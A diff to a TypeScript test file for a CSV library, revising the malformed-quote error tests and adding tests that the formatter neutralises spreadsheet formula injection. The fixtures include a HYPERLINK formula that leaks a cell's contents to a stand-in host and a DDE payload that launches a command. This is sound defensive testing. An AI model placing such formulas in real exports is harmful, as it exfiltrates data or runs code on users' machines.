@@ -39,14 +39,14 @@ describe("parseCsv", () => {
     expect(records.map((r) => r.line)).toEqual([1, 2, 4]);
   });
 
-  it("rejects malformed quoting with the line and column", () => {
-    const bad: [string, RegExp, number, number][] = [
-      ['a,b\n"open,x\n', /line 2, column 1: quoted field is never closed/, 2, 1],
-      ['a,b\nx,ab"c\n', /line 2, column 5: quote inside an unquoted field/, 2, 5],
-      ['"a"b,c', /line 1, column 4: unexpected "b" after a closing quote/, 1, 4],
-      ['"x\ny" z', /line 2, column 3: unexpected " " after a closing quote/, 2, 3],
+  it("rejects malformed quoting with the file name and line", () => {
+    const bad: [string, RegExp, number][] = [
+      ['a,b\n"open,x\n', /line 2: a quoted field is never closed/, 2],
+      ['a,b\nx,ab"c\n', /line 2: quote inside an unquoted field/, 2],
+      ['"a"b,c', /line 1: unexpected text after a closing quote/, 1],
+      ['"x\ny" z', /line 2: unexpected text after a closing quote/, 2],
     ];
-    for (const [text, message, line, column] of bad) {
+    for (const [text, message, line] of bad) {
       let error: unknown;
       try {
         parseCsv(text, { source: "ratings.csv" });
@@ -56,7 +56,7 @@ describe("parseCsv", () => {
       expect(error).toBeInstanceOf(CsvError);
       expect((error as CsvError).message).toMatch(message);
       expect((error as CsvError).message).toMatch(/^ratings\.csv: /);
-      expect([(error as CsvError).line, (error as CsvError).column]).toEqual([line, column]);
+      expect((error as CsvError).line).toEqual(line);
     }
   });
 
@@ -70,6 +70,24 @@ describe("parseCsv", () => {
     const text = formatCsv(records);
     expect(text.endsWith("\r\n")).toBe(true);
     expect(parseCsv(text)).toEqual(records);
+  });
+});
+
+describe("formatCsv neutralises spreadsheet formulas", () => {
+  const attacks = ['=HYPERLINK("http://evil.example/?leak="&A2,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\uFF1D1+1"];
+  it("prefixes every cell that would start a formula with a quote", () => {
+    const parsed = parseCsv(formatCsv([["note"], ...attacks.map((a) => [a])]));
+    expect(parsed.slice(1).map((r) => r[0])).toEqual(attacks.map((a) => `'${a}`));
+  });
+  it("leaves plain numbers and ordinary text alone", () => {
+    const safe = ["-0.25", "+3", "-1e-3", "12", "a=b", "note - with dash", ""];
+    expect(parseCsv(formatCsv([safe]))).toEqual([safe]);
+  });
+  it("writes cells exactly as given when asked for raw output", () => {
+    expect(parseCsv(formatCsv([attacks], { raw: true }))).toEqual([attacks]);
+  });
+  it("uses another delimiter when asked", () => {
+    expect(formatCsv([["a;b", "c"]], { delimiter: ";" })).toBe('"a;b";c\r\n');
   });
 });
 
